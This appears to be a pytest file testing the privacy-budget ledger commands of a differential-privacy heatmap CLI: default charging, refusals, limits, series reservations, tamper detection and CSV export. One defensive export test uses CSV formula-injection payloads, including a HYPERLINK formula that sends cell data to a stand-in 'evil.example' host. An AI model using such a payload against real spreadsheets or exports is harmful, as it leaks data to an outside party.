"""The ledger on the command line: on by default, refusing with exit 4, and readable."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
from fractions import Fraction
from pathlib import Path

import pytest

import dpheatmap as dph
from dpheatmap.cli import run
from dpheatmap.cli.ledger_command import _populations
from dpheatmap.curator.ledger.ledger import Ledger
from dpheatmap.curator.ledger.population_account import Account, Cost
from dpheatmap.curator.ledger.spending_limit import Limit
from dpheatmap.testing import generated_people


@pytest.fixture
def arguments(table: str, tmp_path: Path) -> list[str]:
    columns = ["--user", "person", "--x", "x", "--y", "y"]
    return ["release", table, *columns, "--unit", "--depth", "3", "-o", str(tmp_path / "a.dph.parquet")]


@pytest.fixture
def books(tmp_path: Path) -> str:
    """A ledger in which riders may spend 2."""
    path = str(tmp_path / "city.ledger")
    assert run(["ledger", "limit", path, "--population", "riders", "--epsilon", "2"]) == 0
    return path


def test_a_release_is_charged_by_default_under_the_name_of_its_input(
    arguments: list[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    place = tmp_path / "default"
    monkeypatch.setenv("DPHEATMAP_LEDGER", str(place))
    assert run([*arguments, "--epsilon", "1/2"]) == 0
    assert run([*arguments, "--epsilon", "1"]) == 0
    assert "Charged to 'people.parquet' in the ledger default: 1.5 spent, no limit set." in capsys.readouterr().err
    assert Ledger(place).verify([dph.load(arguments[-1])]) == 2
    assert run(["ledger", "limit", "--population", "people.parquet", "--epsilon", "2"]) == 0
    assert run([*arguments, "--epsilon", "1", "--population", "people.parquet"]) == 4
    assert "An epsilon of up to 0.5 would fit." in capsys.readouterr().err


def test_the_default_ledger_lies_in_the_users_data_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("DPHEATMAP_LEDGER")
    monkeypatch.setattr("sys.platform", "linux")
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "data"))
    assert run(["ledger", "limit", "--population", "riders", "--epsilon", "1"]) == 0
    assert Ledger(tmp_path / "data" / "dpheatmap" / "ledger").verify() == 1
    monkeypatch.delenv("XDG_DATA_HOME")
    monkeypatch.setenv("HOME", str(tmp_path))
    assert Ledger.default_place() == str(tmp_path / ".local/share/dpheatmap/ledger")
    monkeypatch.setattr("sys.platform", "darwin")
    assert Ledger.default_place() == str(tmp_path / "Library/Application Support/dpheatmap/ledger")
    monkeypatch.setattr("sys.platform", "win32")
    monkeypatch.setenv("LOCALAPPDATA", str(tmp_path / "local"))
    assert Ledger.default_place() == str(tmp_path / "local" / "dpheatmap" / "ledger")
    (tmp_path / "local").touch()
    assert run(["ledger", "show"]) == 3


def test_no_ledger_is_said_in_the_label(
    arguments: list[str], default_ledger: str, capsys: pytest.CaptureFixture[str]
) -> None:
    before = Ledger(default_ledger).entries()
    assert run([*arguments, "--epsilon", "1", "--no-ledger"]) == 0
    assert "No ledger keeps account of this release" in capsys.readouterr().err
    assert "No ledger keeps account" in dph.load(arguments[-1]).label["budget"]
    assert Ledger(default_ledger).entries() == before
    assert run([*arguments, "--epsilon", "1", "--no-ledger", "--population", "riders"]) == 2


def test_a_named_population_needs_a_limit(
    arguments: list[str], books: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    named = [*arguments, "--epsilon", "1", "--ledger", books, "--population"]
    assert run([*named, "ridres"]) == 4
    told = capsys.readouterr().err
    assert "'ridres' has no limit in city.ledger" in told
    assert "dpheatmap ledger limit LEDGER --population ridres --epsilon 3" in told
    assert run([*arguments, "--epsilon", "1", "--ledger", str(tmp_path / "no"), "--population", "riders"]) == 4
    assert not (tmp_path / "no").exists()
    assert not Path(arguments[-1]).exists()
    assert run([*named, "riders"]) == 0
    assert "Charged to 'riders' in the ledger city.ledger: 1 of 2 spent, 1 left." in capsys.readouterr().err


def test_a_refusal_leaves_nothing_and_costs_nothing(arguments: list[str], books: str) -> None:
    named = [*arguments, "--ledger", books, "--population", "riders", "--epsilon"]
    assert run([*named, "3"]) == 4
    assert not Path(arguments[-1]).exists()
    assert run([*named, "1", "--where", "x <"]) == 2
    assert run([*named[:1], "/nonexistent.csv", *named[2:], "1"]) == 3
    assert len(Ledger(books).entries()) == 1


def test_an_output_that_cannot_be_written_costs_nothing(
    arguments: list[str], books: str, small_disk: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A full disk is found out before anything is charged, by trying."""
    dph.Ledger(small_disk / "here.ledger").limit("riders", 2)
    named = [*arguments[:-1], str(small_disk / "a.dph.parquet"), "--epsilon", "1"]
    assert run([*named, "--ledger", str(small_disk / "here.ledger"), "--population", "riders"]) == 1
    assert "could not be written" in capsys.readouterr().err
    assert Ledger(small_disk / "here.ledger").accounts()["riders"].spent == 0
    assert not (small_disk / "a.dph.parquet").exists()


def test_parts_do_not_add_up(books: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    table = tmp_path / "t.csv"
    table.write_text("who,x,y,district\na,0.1,0.1,north\nb,0.9,0.9,south\n")
    columns = ["--user", "who", "--x", "x", "--y", "y", "--unit", "--depth", "3", "--epsilon", "2"]
    budget = ["--ledger", books, "--population", "riders", "--partition", "district=north,south", "--part"]
    for part in ("north", "south"):
        output = str(tmp_path / f"{part}.dph.parquet")
        assert run(["release", str(table), *columns, *budget, part, "-o", output]) == 0
    assert run(["release", str(table), *columns, *budget, "north", "-o", output]) == 4
    assert run(["release", str(table), *columns, *budget, "west", "-o", output]) == 2
    assert run(["release", str(table), *columns, *budget[:-2], "district", "--part", "north", "-o", output]) == 2
    assert "COLUMN=V1,V2" in capsys.readouterr().err
    assert run(["ledger", "show", books, "--json"]) == 0
    (riders,) = json.loads(capsys.readouterr().out)["populations"]
    assert riders["spent"] == "2"
    assert riders["parts"] == {"district": {"north": "2", "south": "2"}}


def test_show_is_a_table_with_bars(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    books = str(tmp_path / "city.ledger")
    Ledger(books, limits_needed=False).charge("others", "1/3")
    Ledger(books).limit("riders", 2)
    Ledger(books).charge("riders", "1/2")
    assert run(["ledger", "show", books]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert lines[0].split() == ["population", "limit", "spent", "left", "releases", "last"]
    assert lines[1].split()[:5] == ["others", "none", "1/3", "none", "1"]
    assert lines[2].split()[:5] == ["riders", "2", "0.5", "1.5", "1"]
    assert lines[2].endswith("██████░░░░░░░░░░░░░░░░░░ 25%")


def test_an_empty_ledger_says_so(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert run(["ledger", "show", str(tmp_path / "new")]) == 0
    assert "Nothing was charged to new yet." in capsys.readouterr().err


def test_verify_finds_edits_and_rollbacks(
    arguments: list[str], books: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    old = Path(books).read_bytes()
    named = [*arguments, "--ledger", books, "--population", "riders", "--epsilon", "1"]
    assert run(named) == 0
    second = str(tmp_path / "b.dph.parquet")
    assert run([*named, "-o", second]) == 0
    assert run(["ledger", "verify", books, "--against", arguments[-1], second]) == 0
    assert "city.ledger is whole: 3 entries, the entries of 2 releases among them." in capsys.readouterr().out
    Path(books).write_bytes(old)
    assert run(["ledger", "verify", books]) == 0
    assert run(["ledger", "verify", books, "--against", second]) == 3
    assert "was rolled back or cut short" in capsys.readouterr().err
    with sqlite3.connect(books) as con:
        con.execute("UPDATE entries SET epsilon = '100'")
    con.close()
    assert run(["ledger", "verify", books, "--json"]) == 3
    assert "entry 1 is not what it was" in capsys.readouterr().err
    assert run(named) == 3


def test_export_is_csv(books: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    Ledger(books).charge("riders", "1/3")
    capsys.readouterr()
    assert run(["ledger", "export", books]) == 0
    text = capsys.readouterr().out
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [(row["kind"], row["population"], row["epsilon"]) for row in rows] == [
        ("limit", "riders", "2"),
        ("charge", "riders", "1/3"),
    ]
    assert run(["ledger", "export", books, "-o", str(tmp_path / "e.csv")]) == 0
    assert (tmp_path / "e.csv").read_text() == text


@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/"&A1)', "+1", "-1", "@SUM(A1)"])
def test_no_name_in_an_export_is_a_formula(name: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    Ledger(tmp_path / "l").limit(name, 2)
    assert run(["ledger", "export", str(tmp_path / "l")]) == 0
    (row,) = csv.DictReader(io.StringIO(capsys.readouterr().out))
    assert row["population"] == f"'{name}"


def test_limits_of_every_kind_and_a_series(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    books = str(tmp_path / "city.ledger")
    named = [books, "--population", "riders"]
    assert run(["ledger", "limit", *named]) == 2
    assert run(["ledger", "limit", *named, "--epsilon", "1", "--delta", "1e-6"]) == 0
    assert "'riders' in city.ledger: 0 of 1 at delta 0.000001 spent, epsilon 1 or rho 0.0243559 still fits." in (
        capsys.readouterr().err
    )
    assert run(["ledger", "reserve", *named, "--releases", "1001", "--epsilon", "0.01"]) == 2
    assert run(["ledger", "reserve", *named, "--releases", "52", "--epsilon", "0.04"]) == 4
    assert "52 releases at 0.04 each were asked for" in capsys.readouterr().err
    assert run(["ledger", "reserve", *named, "--releases", "52", "--epsilon", "0.0337416"]) == 0
    assert "Reserved as series 2." in capsys.readouterr().err
    Ledger(books).charge("riders", "0.0337416", series=2)
    assert run(["ledger", "show", books]) == 0
    told = capsys.readouterr().out
    assert "The sum of epsilon is 1.7545632, that of rho 0.0296009." in told
    assert "The smallest limit at delta 0.000001 that would have let all this pass is 0.999999. Nothing" in told
    assert "Series 2: 1 of 52 releases made, at 0.0337416 each." in told
    old = "1 at delta 0.000001"
    assert run(["ledger", "change-limit", *named, "--from", "1", "--to", "2"]) == 4
    assert f"is {old}, and it was to be changed from 1." in capsys.readouterr().err
    assert run(["ledger", "change-limit", *named, "--from", old, "--to", "2", "--rho", "1"]) == 2
    assert run(["ledger", "change-limit", *named, "--from", old, "--rho", "1/10"]) == 0
    assert run(["ledger", "change-limit", *named, "--from", "rho 1/10", "--to", "2", "--delta", "1e-9"]) == 0
    assert [row.kind for row in Ledger(books).entries()][3:] == ["change-rho", "change-delta"]


def test_show_as_json_has_all_accounts_exactly(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    books = str(tmp_path / "city.ledger")
    Ledger(books).limit("riders", rho="0.02")
    Ledger(books).charge("riders", "1/10")
    assert run(["ledger", "show", books, "--json"]) == 0
    (riders,) = json.loads(capsys.readouterr().out)["populations"]
    assert (riders["limit"], riders["kind"], riders["spent"], riders["left"]) == (
        "1/50", {"rho": "1/50"}, "1/200", "3/200",
    )  # fmt: skip
    assert riders["accounts"] == {
        "epsilon": "1/10",
        "rho": "1/200",
        "at_delta": {"delta": "1/1000000", "epsilon": "1/10"},
    }
    assert riders["fits"] == {"epsilon": "34641/200000", "rho": "3/200"}
    Ledger(books).charge("riders", rho="0.001")
    assert run(["ledger", "show", books, "--json"]) == 0
    (riders,) = json.loads(capsys.readouterr().out)["populations"]
    assert riders["accounts"]["epsilon"] is None


def test_what_is_left_is_never_rounded_up() -> None:
    """Sums of ledgers of earlier versions may be too long to be written out."""
    long = Fraction(1, 3) + Fraction(1, 7**6000)
    account = Account(Limit(Fraction(2)))
    account.charge(Cost.pure(long), None)
    (told,) = _populations({"riders": account})
    assert Fraction(told["left"]) <= 2 - long
    assert Fraction(told["fits"]["epsilon"]) <= 2 - long
    assert Fraction(told["spent"]) >= long


def test_the_command_that_a_refusal_names_runs(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    import shlex

    books = str(tmp_path / "city.ledger")
    for limit, more in (("1 --delta 1e-6", "--epsilon 2"), ("1", "--rho 0.02"), ("1", "--epsilon 2 --delta 1e-6")):
        people = f"people {limit} {more}"
        assert run(["ledger", "limit", books, "--population", people, "--epsilon", *limit.split()]) == 0
        assert run(["ledger", "limit", books, "--population", people, *more.split()]) == 4
        told = capsys.readouterr().err
        command = shlex.split(told[told.index("dpheatmap ledger change-limit") :].splitlines()[0])
        assert run([books if word == "LEDGER" else word for word in command[1:]]) == 0


def test_a_release_of_a_series_is_charged_to_what_was_reserved(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    generated_people(50).write_csv("trips.csv")
    assert run(["ledger", "limit", "s.ledger", "--population", "riders", "--epsilon", "1", "--delta", "1e-6"]) == 0
    reserve = ["ledger", "reserve", "s.ledger", "--population", "riders", "--releases", "2", "--rho", "0.01"]
    assert run(reserve) == 0
    week = ["release", "trips.csv", "--noise", "gaussian", "--rho", "0.01", "--user", "person", "--x", "x", "--y", "y"]
    week += ["--unit", "--depth", "4", "--ledger", "s.ledger", "--population", "riders", "-o", "week.dph.parquet"]
    assert run(week) == 4
    for _ in range(2):
        assert run([*week, "--series", "2"]) == 0
    assert run([*week, "--series", "2"]) == 4
    capsys.readouterr()
    assert run(["ledger", "verify", "s.ledger", "week.dph.parquet"]) == 0
    assert run([*week, "--series", "2", "--image-column", "x", "--images", "a"]) == 2
